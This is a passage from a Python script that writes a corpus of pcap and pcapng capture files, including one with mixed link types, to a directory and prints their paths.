        with g.PcapWriter(path, linktype=linktype) as w:
            for ts, frame in frames:
                w.write(ts, frame)
        paths[name] = path
    path = os.path.join(directory, "pcapng_mixed_linktypes.pcapng")
    write_pcapng_mixed(path)
    paths["pcapng_mixed_linktypes"] = path
    return paths


if __name__ == "__main__":
    for name, path in write_corpus(sys.argv[1] if len(sys.argv) > 1 else "corpus-out").items():
        print(path)
